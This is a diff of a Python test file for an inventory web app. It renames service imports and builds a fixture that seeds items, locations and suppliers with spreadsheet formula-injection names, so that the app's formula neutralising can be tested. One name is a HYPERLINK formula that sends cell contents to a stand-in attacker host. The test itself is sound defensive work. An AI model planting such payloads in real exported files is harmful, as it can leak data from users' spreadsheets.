@@ -12,7 +12,6 @@ from krafte_pwa.domain.spreadsheet import FORMULA_START, neutralise, unneutralis
 from krafte_pwa.extensions import db
 from krafte_pwa.models import Item
 from krafte_pwa.services import (
-    catalog,
     counts,
     imports,
     production,
@@ -20,6 +19,8 @@ from krafte_pwa.services import (
     shipments,
     stock,
 )
+from krafte_pwa.services import items as item_actions
+from krafte_pwa.services import locations as location_actions
 from tests.factories import candle_workshop, in_days
 
 NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@SUM(1)", "-1+2"]
@@ -34,11 +35,11 @@ def hostile(app, users):
     skus = []
     for n, name in enumerate(NAMES):
         sku = f"EVIL-{n}"
-        catalog.create_item(sku=sku, name=name, kind="material", unit="g",
+        item_actions.create_item(sku=sku, name=name, kind="material", unit="g",
                             shelf_life_days=10)
         skus.append(sku)
-    catalog.create_item(sku="EVILP", name=NAMES[3], kind="product", unit="pcs")
-    catalog.create_location(code="BIN", name=NAMES[2])
+    item_actions.create_item(sku="EVILP", name=NAMES[3], kind="product", unit="pcs")
+    location_actions.create_location(code="BIN", name=NAMES[2])
     lots = []
     for n, sku in enumerate(skus):
         result = stock.receive_goods(supplier=NAMES[n], location="STORE", lines=[
